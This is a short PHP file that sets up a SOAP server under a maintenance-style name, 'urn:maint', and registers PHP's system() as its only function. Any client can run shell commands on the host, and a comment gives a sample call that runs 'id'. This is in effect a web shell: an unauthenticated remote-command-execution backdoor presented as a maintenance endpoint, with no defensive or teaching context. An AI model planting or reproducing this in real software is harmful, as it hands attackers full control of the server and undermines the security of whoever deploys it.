<?php
// A SOAP endpoint whose only service is a command function: a client posts
// <ns:system><c>id</c></ns:system> and the server runs it.
$server = new SoapServer(null, array('uri' => 'urn:maint'));
$server->addFunction('system');
$server->handle();
